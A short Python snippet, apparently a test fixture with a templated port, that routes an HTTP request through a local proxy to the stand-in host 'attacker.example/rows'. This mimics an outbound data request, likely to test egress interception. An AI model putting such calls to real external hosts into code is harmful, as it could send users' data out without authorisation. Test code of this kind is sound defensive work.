import urllib.request

handler = urllib.request.ProxyHandler({**urllib.request.getproxies(), "http": "http://127.0.0.1:@TCP@"})
urllib.request.build_opener(handler).open("http://attacker.example/rows", timeout=2)
